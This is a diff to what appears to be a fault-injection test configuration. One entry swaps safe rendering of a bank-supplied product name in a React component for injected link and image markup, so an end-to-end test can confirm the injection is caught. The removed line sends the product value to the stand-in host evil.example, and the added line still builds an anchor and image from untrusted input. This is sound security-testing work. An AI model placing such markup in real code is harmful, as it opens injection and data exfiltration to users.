@@ -156,7 +156,7 @@ export const deskServiceSwitches: readonly Switch[] = [
     guarantee: 'T32 what a bank says becomes no element of the page.',
     file: 'web/desk/client/lead/leadPane.tsx',
     find: '<strong>{product}</strong>',
-    replace: '<strong><a href={product}>{product}</a><img src={`https://evil.example/${product}`} alt="" /></strong>',
+    replace: '<strong><a href={product}>{product}</a><img src={product} alt="" /></strong>',
     test: 'test/e2e/deskPageQuality.test.ts',
     named: 'bank says',
   },
